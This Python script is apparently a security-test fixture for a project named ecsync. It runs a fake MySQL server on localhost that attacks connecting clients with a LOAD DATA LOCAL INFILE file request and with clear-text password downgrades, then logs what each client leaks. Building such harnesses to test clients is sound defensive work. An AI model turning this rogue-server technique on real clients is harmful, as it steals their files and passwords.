#!/usr/bin/env python3
"""fake_mysql.py: a hostile MySQL server for ecsync's security tests.

It speaks just enough of the MySQL protocol to be a server a client
trusts, then attacks the client the way a rogue or compromised server
could, and records in a JSON-lines log what the client gave away:

  --attack infile      answer every query with a LOAD DATA LOCAL INFILE
                       request for --file; log the bytes the client sends
  --attack clear       switch authentication to mysql_clear_password;
                       log what the client answers (a password in clear)
  --attack dialog      switch authentication to the dialog plugin's
                       password question; log the answer

Each connection is one log record: the client's capability flags,
whether it advertised CLIENT_LOCAL_FILES, and "leaked" (the bytes it sent
in answer to the attack, as text).  Runs until killed.
"""
import argparse
import json
import os
import socket
import struct
import sys

CLIENT_LONG_PASSWORD = 0x1
CLIENT_CONNECT_WITH_DB = 0x8
CLIENT_LOCAL_FILES = 0x80
CLIENT_PROTOCOL_41 = 0x200
CLIENT_TRANSACTIONS = 0x2000
CLIENT_SECURE_CONNECTION = 0x8000
CLIENT_MULTI_STATEMENTS = 0x10000
CLIENT_MULTI_RESULTS = 0x20000
CLIENT_PLUGIN_AUTH = 0x80000
CLIENT_PLUGIN_AUTH_LENENC = 0x200000

SERVER_CAPS = (CLIENT_LONG_PASSWORD | CLIENT_CONNECT_WITH_DB | CLIENT_LOCAL_FILES
               | CLIENT_PROTOCOL_41 | CLIENT_TRANSACTIONS | CLIENT_SECURE_CONNECTION
               | CLIENT_MULTI_STATEMENTS | CLIENT_MULTI_RESULTS | CLIENT_PLUGIN_AUTH
               | CLIENT_PLUGIN_AUTH_LENENC)


class Conn:
    def __init__(self, sock):
        self.sock = sock
        self.seq = 0

    def read_exact(self, n):
        buf = b""
        while len(buf) < n:
            chunk = self.sock.recv(n - len(buf))
            if not chunk:
                raise EOFError
            buf += chunk
        return buf

    def read(self):
        head = self.read_exact(4)
        length = head[0] | head[1] << 8 | head[2] << 16
        self.seq = (head[3] + 1) & 0xFF
        return self.read_exact(length)

    def write(self, payload):
        self.sock.sendall(struct.pack("<I", len(payload))[:3] + bytes([self.seq]) + payload)
        self.seq = (self.seq + 1) & 0xFF

    def ok(self):
        self.write(b"\x00\x00\x00\x02\x00\x00\x00")

    def error(self, msg):
        self.write(b"\xff" + struct.pack("<H", 1045) + b"#28000" + msg.encode())


def handshake(c):
    scramble = os.urandom(20).replace(b"\x00", b"x")
    c.seq = 0
    c.write(b"\x0a" + b"8.0.99-ecsync-fake\x00" + struct.pack("<I", 7)
            + scramble[:8] + b"\x00" + struct.pack("<H", SERVER_CAPS & 0xFFFF)
            + bytes([45]) + struct.pack("<H", 2) + struct.pack("<H", SERVER_CAPS >> 16)
            + bytes([21]) + b"\x00" * 10 + scramble[8:] + b"\x00"
            + b"mysql_native_password\x00")
    resp = c.read()
    return struct.unpack("<I", resp[:4])[0]


def serve(c, args, record):
    caps = handshake(c)
    record["client_caps"] = caps
    record["client_local_files"] = bool(caps & CLIENT_LOCAL_FILES)
    if args.attack in ("clear", "dialog"):
        if args.attack == "clear":
            c.write(b"\xfemysql_clear_password\x00")
        else:
            c.write(b"\xfedialog\x00\x04Password: ")
        try:
            record["leaked"] = c.read().decode("utf-8", "replace")
        except EOFError:
            record["leaked"] = ""
            return
        c.error("Access denied (fake server)")
        return
    c.ok()
    while True:
        try:
            packet = c.read()
        except EOFError:
            return
        if not packet or packet[0] == 0x01:         # COM_QUIT
            return
        if packet[0] != 0x03:                       # not COM_QUERY
            c.ok()
            continue
        record.setdefault("queries", []).append(packet[1:].decode("utf-8", "replace"))
        c.write(b"\xfb" + args.file.encode())
        data = b""
        try:
            while True:
                chunk = c.read()
                if not chunk:
                    break
                data += chunk
        except EOFError:
            record["leaked"] = record.get("leaked", "") + data.decode("utf-8", "replace")
            return
        record["leaked"] = record.get("leaked", "") + data.decode("utf-8", "replace")
        c.error("fake server: no more")


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--attack", choices=["infile", "clear", "dialog"], required=True)
    ap.add_argument("--file", default="/etc/hostname")
    ap.add_argument("--log", required=True)
    args = ap.parse_args()
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", args.port))
    srv.listen(8)
    print("listening", flush=True)
    while True:
        sock, _ = srv.accept()
        sock.settimeout(10)
        record = {"attack": args.attack}
        try:
            serve(Conn(sock), args, record)
        except (EOFError, OSError, struct.error, IndexError) as e:
            record["ended"] = type(e).__name__
        finally:
            sock.close()
        with open(args.log, "a") as f:
            f.write(json.dumps(record) + "\n")


if __name__ == "__main__":
    sys.exit(main())
